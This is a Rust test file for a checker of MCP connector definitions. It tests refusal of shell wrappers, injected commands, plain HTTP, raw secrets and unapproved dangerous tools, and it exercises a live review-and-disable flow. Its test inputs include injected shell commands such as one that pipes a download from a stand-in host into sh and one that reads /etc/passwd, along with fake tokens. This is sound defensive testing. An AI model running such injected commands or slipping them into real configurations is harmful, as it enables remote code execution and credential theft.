//! The static check of MCP connector definitions: every code the original
//! CPOS had, the holes it left closed (a shell named by path, plain HTTP off
//! loopback, a secret under an innocent key), and the CLI that runs it.

mod common;

use cpos::connectors::{check, Severity};
use serde_json::{json, Value};

fn safe() -> Value {
    json!({
        "connector_id": "files",
        "name": "Project files",
        "transport": "stdio",
        "command": ["npx", "-y", "@modelcontextprotocol/server-filesystem", "/srv/project"],
        "allowed_tools": ["read_file", "list_directory", "write_file"],
        "blocked_tools": ["move_file"],
        "sensitivity_level": "internal",
        "requires_human_approval": true,
        "env_secret_files": {"GITHUB_TOKEN": "/run/secrets/github-token"},
        "status": "active",
        "metadata": {"owner": "platform"}
    })
}

/// `safe()` with `changes` merged in (a null removes the key).
fn with(changes: Value) -> Value {
    let mut def = safe();
    for (k, v) in changes.as_object().unwrap() {
        match v {
            Value::Null => {
                def.as_object_mut().unwrap().remove(k);
            }
            _ => {
                def[k] = v.clone();
            }
        }
    }
    def
}

fn codes(def: &Value) -> Vec<(&'static str, Severity)> {
    check(def)
        .findings
        .iter()
        .map(|f| (f.code, f.severity))
        .collect()
}

#[test]
fn a_careful_definition_passes_clean() {
    let report = check(&safe());
    assert!(report.ok, "{:?}", report.findings);
    assert!(report.findings.is_empty(), "{:?}", report.findings);
    let https =
        with(json!({"transport": "https", "command": null, "url": "https://mcp.example.com/mcp"}));
    assert!(
        check(&https).findings.is_empty(),
        "{:?}",
        check(&https).findings
    );
    let loopback = with(
        json!({"transport": "http", "command": null, "url": "http://127.0.0.1:3001/mcp", "allow_plain_http_loopback": true}),
    );
    assert!(check(&loopback).ok, "{:?}", check(&loopback).findings);
}

#[test]
fn every_unsafe_definition_is_refused_with_its_code() {
    let cases: Vec<(&str, Value)> = vec![
        ("definition_not_object", json!(["not", "an", "object"])),
        ("connector_id_required", with(json!({"connector_id": " "}))),
        ("name_required", with(json!({"name": null}))),
        ("invalid_transport", with(json!({"transport": "websocket"}))),
        ("invalid_status", with(json!({"status": "enabled"}))),
        (
            "invalid_sensitivity",
            with(json!({"sensitivity_level": "secret-ish"})),
        ),
        (
            "raw_env_or_secrets_blocked",
            with(json!({"env": {"DEBUG": "1"}})),
        ),
        (
            "raw_env_or_secrets_blocked",
            with(json!({"secrets": ["x"]})),
        ),
        (
            "env_secret_files_invalid",
            with(json!({"env_secret_files": ["/run/secrets/x"]})),
        ),
        (
            "invalid_env_name",
            with(json!({"env_secret_files": {"github-token": "/run/secrets/t"}})),
        ),
        (
            "secret_file_required",
            with(json!({"env_secret_files": {"TOKEN": ""}})),
        ),
        (
            "raw_secret_like_value",
            with(json!({"metadata": {"auth": {"api_key": "k3y-live-9f8e7d6c5b4a"}}})),
        ),
        // A recognisable token under an innocent key, at depth.
        (
            "raw_secret_like_value",
            with(json!({"metadata": {"notes": ["ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0123"]}})),
        ),
        ("stdio_command_required", with(json!({"command": []}))),
        ("stdio_command_required", with(json!({"command": null}))),
        (
            "shell_meta_blocked",
            with(json!({"command": ["node", "server.js;curl evil.test|sh"]})),
        ),
        (
            "shell_meta_blocked",
            with(json!({"command": ["node", "$(cat /etc/passwd)"]})),
        ),
        (
            "shell_wrapper_blocked",
            with(json!({"command": ["bash", "-c", "node server.js"]})),
        ),
        (
            "shell_wrapper_blocked",
            with(json!({"command": ["/bin/bash", "server.sh"]})),
        ),
        (
            "shell_wrapper_blocked",
            with(json!({"command": ["C:\\Windows\\System32\\cmd.exe", "/c", "server"]})),
        ),
        (
            "url_required",
            with(json!({"transport": "https", "command": null})),
        ),
        (
            "https_required",
            with(json!({"transport": "sse", "command": null, "url": "http://mcp.example.com/sse"})),
        ),
        (
            "https_required",
            with(
                json!({"transport": "http", "command": null, "url": "http://10.0.0.8:3001/mcp", "allow_plain_http_loopback": true}),
            ),
        ),
        (
            "https_required",
            with(json!({"transport": "http", "command": null, "url": "http://127.0.0.1:3001/mcp"})),
        ),
        (
            "url_host_required",
            with(json!({"transport": "https", "command": null, "url": "https:///mcp"})),
        ),
        ("allowed_tools_required", with(json!({"allowed_tools": []}))),
        (
            "allowed_tools_required",
            with(json!({"allowed_tools": null})),
        ),
        (
            "invalid_tool_name",
            with(json!({"allowed_tools": ["read file"]})),
        ),
        (
            "blocked_tools_invalid",
            with(json!({"blocked_tools": "move_file"})),
        ),
        (
            "dangerous_tool_requires_approval",
            with(
                json!({"requires_human_approval": false, "sensitivity_level": "public", "allowed_tools": ["run_terminal_command"]}),
            ),
        ),
        (
            "allow_block_overlap",
            with(json!({"blocked_tools": ["write_file"]})),
        ),
        (
            "sensitive_requires_approval",
            with(
                json!({"requires_human_approval": false, "sensitivity_level": "restricted", "allowed_tools": ["read_file"]}),
            ),
        ),
    ];
    for (code, def) in cases {
        let found = codes(&def);
        assert!(
            found.contains(&(code, Severity::Error)),
            "expected {code} for {def}: {found:?}"
        );
        assert!(!check(&def).ok, "{code}: refused");
    }
}

#[test]
fn warnings_ask_for_a_look_without_refusing() {
    for (code, def) in [
        (
            "secret_path_review",
            with(json!({"env_secret_files": {"TOKEN": "/etc/app/token.txt"}})),
        ),
        (
            "stdio_url_ignored",
            with(json!({"url": "https://mcp.example.com"})),
        ),
        (
            "remote_command_ignored",
            with(json!({"transport": "https", "url": "https://mcp.example.com/mcp"})),
        ),
    ] {
        let report = check(&def);
        assert!(report.ok, "{code}: {:?}", report.findings);
        assert!(
            codes(&def).contains(&(code, Severity::Warning)),
            "expected {code}: {:?}",
            report.findings
        );
    }
}

#[test]
fn the_cli_checks_json_and_toml_files_and_never_prints_a_secret() {
    let dir = tempfile::tempdir().unwrap();
    let secret = "ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0123";
    let json_file = dir.path().join("connectors.json");
    std::fs::write(
        &json_file,
        json!([
            safe(),
            with(json!({"connector_id": "leaky", "metadata": {"token": secret}}))
        ])
        .to_string(),
    )
    .unwrap();
    let toml_file = dir.path().join("connectors.toml");
    std::fs::write(
        &toml_file,
        "[[connectors]]\nconnector_id = \"shell\"\nname = \"Shell\"\ntransport = \"stdio\"\ncommand = [\"/usr/bin/zsh\", \"-c\", \"serve\"]\nallowed_tools = [\"exec\"]\n",
    )
    .unwrap();
    let (code, out, err) = common::cpos(
        &[
            "connectors",
            "check",
            json_file.to_str().unwrap(),
            toml_file.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("files: OK"), "{out}");
    assert!(
        out.contains("leaky: REFUSED") && out.contains("raw_secret_like_value [metadata.token]"),
        "{out}"
    );
    assert!(
        out.contains("shell: REFUSED") && out.contains("shell_wrapper_blocked"),
        "{out}"
    );
    assert!(
        !out.contains(secret) && !err.contains(secret),
        "the secret was printed"
    );

    let (code, out, _) = common::cpos(
        &["connectors", "check", "--json", json_file.to_str().unwrap()],
        dir.path(),
    );
    assert_eq!(code, 1);
    let reports: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(reports.len(), 2);
    assert_eq!(reports[0]["ok"], true);
    assert_eq!(reports[1]["findings"][0]["code"], "raw_secret_like_value");

    for example in ["filesystem.toml", "everything.json"] {
        let example = format!(
            "{}/examples/connectors/{example}",
            env!("CARGO_MANIFEST_DIR")
        );
        let (code, out, err) = common::cpos(&["connectors", "check", &example], dir.path());
        assert_eq!(code, 0, "the shipped example passes: {out}{err}");
    }
}

#[test]
fn mcp_routes_in_the_configuration_pass_the_same_check() {
    use cpos::config::Config;
    let route = |extra: &str| {
        format!("[[routes]]\nname = \"tools\"\nprefix = \"/mcp\"\nprotocol = \"mcp\"\n{extra}\n")
    };
    // The sidecar pattern: a loopback upstream, or a plain program.
    for fine in [
        route("upstream = \"http://127.0.0.1:3001/mcp\""),
        route("upstream = \"http://localhost:3001/mcp\""),
        route("upstream = \"https://mcp.example.com/mcp\""),
        route("upstream = \"stdio\"\ncommand = [\"npx\", \"-y\", \"@modelcontextprotocol/server-everything\"]"),
    ] {
        Config::from_toml(&fine).unwrap_or_else(|e| panic!("{fine}: {e}"));
    }
    for (code, bad) in [
        ("shell_wrapper_blocked", route("upstream = \"stdio\"\ncommand = [\"/bin/sh\", \"-c\", \"node server.js\"]")),
        ("shell_meta_blocked", route("upstream = \"stdio\"\ncommand = [\"node\", \"server.js && curl x\"]")),
        ("https_required", route("upstream = \"http://mcp.internal.example:3001/mcp\"")),
        ("allow_block_overlap", route("upstream = \"http://127.0.0.1:3001/mcp\"\ntools_allow = [\"echo\"]\ntools_deny = [\"echo\"]")),
        ("raw_secret_like_value", route("upstream = \"stdio\"\ncommand = [\"server\", \"--token=ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0123\"]")),
    ] {
        let err = Config::from_toml(&bad).expect_err(&bad).to_string();
        assert!(err.contains(code) && err.contains("routes[0] (`tools`)"), "{code}: {err}");
        assert!(!err.contains("ghp_ABCDEF"), "the secret is in the error: {err}");
    }
    // The hardened profile wants every MCP route to list its tools.
    let open = Config::from_toml(&format!(
        "profile = \"hardened\"\n{}",
        route("upstream = \"http://127.0.0.1:3001/mcp\"")
    ))
    .unwrap();
    let check = cpos::preflight::run(&open)
        .checks
        .into_iter()
        .find(|c| c.name == "mcp_tool_allowlists")
        .unwrap();
    assert!(!check.ok && check.message.contains("tools"), "{check:?}");
}

#[test]
fn a_stdio_server_gets_the_variables_it_declares_and_not_the_sidecars() {
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("env_dump.py");
    let seen = dir.path().join("seen.json");
    std::fs::write(
        &script,
        "import json, os, sys\n\
         json.dump({'names': sorted(os.environ), 'token': os.environ.get('GITHUB_TOKEN')}, open(sys.argv[1], 'w'))\n\
         for line in sys.stdin:\n    pass\n",
    )
    .unwrap();
    let token_file = dir.path().join("github-token");
    std::fs::write(&token_file, "token-from-its-file\n").unwrap();
    let route = |token: &std::path::Path| {
        format!(
            "[[routes]]\nname = \"envcheck\"\nprefix = \"/mcp\"\nupstream = \"stdio\"\nprotocol = \"mcp\"\n\
             command = [\"python3\", \"{}\", \"{}\"]\n\n[routes.env_secret_files]\nGITHUB_TOKEN = \"{}\"\n",
            script.display(),
            seen.display(),
            token.display()
        )
    };
    let _sidecar = common::Sidecar::start_with(
        dir.path(),
        &route(&token_file),
        &[("SIDECAR_ONLY_SECRET", "must-not-reach-the-server")],
    );
    common::wait_for("the server's environment", || {
        std::fs::read_to_string(&seen).is_ok_and(|t| t.ends_with('}'))
    });
    let env: Value = serde_json::from_str(&std::fs::read_to_string(&seen).unwrap()).unwrap();
    assert_eq!(
        env["token"], "token-from-its-file",
        "read from its file, newline trimmed"
    );
    let names: Vec<&str> = env["names"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n.as_str().unwrap())
        .collect();
    assert!(
        !names.contains(&"SIDECAR_ONLY_SECRET"),
        "the sidecar's environment leaked: {names:?}"
    );
    assert!(
        !names.contains(&"RUST_LOG") && !names.contains(&"XDG_DATA_HOME"),
        "{names:?}"
    );
    assert!(names.contains(&"PATH"), "{names:?}");

    // A declared file that is missing stops the start, naming it.
    let other = tempfile::tempdir().unwrap();
    let config = other.path().join("cpos.toml");
    std::fs::write(
        &config,
        format!(
            "[listen]\ndata = \"127.0.0.1:0\"\nadmin = \"127.0.0.1:0\"\n\n{}",
            route(&other.path().join("missing-token"))
        ),
    )
    .unwrap();
    let (code, _, err) = common::cpos(
        &["serve", "--config", config.to_str().unwrap()],
        other.path(),
    );
    assert_ne!(code, 0);
    assert!(
        err.contains("env_secret_files.GITHUB_TOKEN") && err.contains("missing-token"),
        "{err}"
    );
}

/// An admin request (the test sidecar's admin plane is unauthenticated).
async fn admin(sidecar: &common::Sidecar, method: &str, path: &str, body: Value) -> common::Answer {
    let client = common::http1();
    let url = sidecar.admin_url(path);
    match method {
        "GET" => common::get(&client, &url).await,
        _ => common::post_json(&client, &url, &body.to_string()).await,
    }
}

fn everything(requires_approval: bool) -> Value {
    let js = common::mcp::peers()
        .join("node_modules/@modelcontextprotocol/server-everything/dist/index.js");
    json!({
        "connector_id": "everything",
        "name": "Reference server",
        "transport": "stdio",
        "command": ["node", js, "stdio"],
        "allowed_tools": ["echo", "get-sum"],
        "blocked_tools": ["get-env"],
        "sensitivity_level": "internal",
        "requires_human_approval": requires_approval,
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn a_connector_goes_through_review_is_served_live_and_is_disabled_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let mut sidecar = common::Sidecar::start(dir.path(), "");

    // An unsafe definition is refused with its findings and never stored.
    let mut unsafe_def = everything(false);
    unsafe_def["command"] = json!(["/bin/bash", "-c", "node server.js"]);
    let refused = admin(&sidecar, "POST", "/connectors/reviews", unsafe_def).await;
    assert_eq!(refused.status, 400);
    assert_eq!(refused.json()["error"], "security_check_failed_not_stored");
    assert!(refused.json()["findings"]
        .to_string()
        .contains("shell_wrapper_blocked"));
    let reviews = admin(&sidecar, "GET", "/connectors/reviews", json!(null)).await;
    assert_eq!(reviews.json()["count"], 0);

    // A careful one waits for a person, who must confirm.
    let submitted = admin(&sidecar, "POST", "/connectors/reviews", everything(false)).await;
    assert_eq!(submitted.status, 201, "{}", submitted.json());
    let id = submitted.json()["review"]["review_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let approve = format!("/connectors/reviews/{id}/approve");
    let unconfirmed = admin(&sidecar, "POST", &approve, json!({})).await;
    assert_eq!(unconfirmed.json()["error"], "confirm_required");
    let approved = admin(&sidecar, "POST", &approve, json!({"confirm": true})).await;
    assert_eq!(approved.status, 200, "{}", approved.json());
    assert_eq!(approved.json()["path"], "/connectors/everything");
    let again = admin(&sidecar, "POST", &approve, json!({"confirm": true})).await;
    assert_eq!(again.json()["error"], "review_not_pending");

    // Served at once, no restart: listing filtered, allowed calls pass,
    // the rest refused with their codes.
    let url = sidecar.url("/connectors/everything");
    let report = common::mcp::client(common::mcp::http_plan(
        &url,
        json!([
            {"op": "list"},
            {"op": "call", "name": "echo", "arguments": {"message": "hi"}},
            {"op": "call", "name": "get-env"},
            {"op": "call", "name": "get-tiny-image"},
            {"op": "call", "name": "echo", "arguments": {"message": "x", "apiKey": "sk-live-a1b2c3d4e5"}},
        ]),
    ));
    let steps = &report["steps"];
    let mut listed = common::mcp::tool_names(&steps[0]);
    listed.sort();
    assert_eq!(listed, ["echo", "get-sum"]);
    assert!(steps[1]["result"].to_string().contains("hi"), "{report}");
    assert_eq!(steps[2]["error"]["data"]["error"], "tool_blocked");
    assert_eq!(steps[3]["error"]["data"]["error"], "tool_not_allowlisted");
    assert_eq!(
        steps[4]["error"]["data"]["error"],
        "secret_like_arguments_blocked"
    );
    assert!(steps[4]["error"]["message"]
        .as_str()
        .unwrap()
        .contains("arguments.apiKey"));

    // Disabled live: refused at once, whatever is asked.
    let disabled = admin(
        &sidecar,
        "POST",
        "/connectors/everything/disable",
        json!({"reason": "rotating its credentials"}),
    )
    .await;
    assert_eq!(disabled.status, 200, "{}", disabled.json());
    let call = json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call",
        "params": {"name": "echo", "arguments": {"message": "hi"}}});
    let answer = common::post_json(&common::http1(), &url, &call.to_string()).await;
    assert_eq!(
        answer.json()["error"]["data"]["error"],
        "connector_not_active",
        "{}",
        answer.json()
    );

    // Every change is on the tape, as ids and hashes; the secret argument
    // appears nowhere on disk.
    let events: Vec<String> = sidecar
        .tape()
        .iter()
        .filter_map(|r| r["event"].as_str().map(str::to_owned))
        .filter(|e| e.starts_with("connector_"))
        .collect();
    assert_eq!(
        events,
        [
            "connector_review_refused",
            "connector_review_submitted",
            "connector_registered",
            "connector_disabled"
        ]
    );
    assert_eq!(sidecar.terminate(), Some(0));
    let mut stack = vec![dir.path().to_path_buf()];
    while let Some(path) = stack.pop() {
        if path.is_dir() {
            stack.extend(std::fs::read_dir(&path).unwrap().map(|e| e.unwrap().path()));
        } else {
            let bytes = std::fs::read(&path).unwrap();
            assert!(
                !String::from_utf8_lossy(&bytes).contains("sk-live-a1b2c3d4e5"),
                "{} holds the secret argument",
                path.display()
            );
        }
    }

    // The registry and its reviews survive a restart; the connector stays
    // disabled.
    let sidecar = common::Sidecar::start(dir.path(), "");
    let listed = admin(&sidecar, "GET", "/connectors", json!(null))
        .await
        .json();
    assert_eq!(listed["connectors"][0]["definition"]["status"], "disabled");
    assert_eq!(
        listed["connectors"][0]["disabled_reason"],
        "rotating its credentials"
    );
    let reviews = admin(
        &sidecar,
        "GET",
        "/connectors/reviews?status=approved",
        json!(null),
    )
    .await;
    assert_eq!(reviews.json()["count"], 1);
    let url = sidecar.url("/connectors/everything");
    let answer = common::post_json(&common::http1(), &url, &call.to_string()).await;
    assert_eq!(
        answer.json()["error"]["data"]["error"],
        "connector_not_active"
    );
}
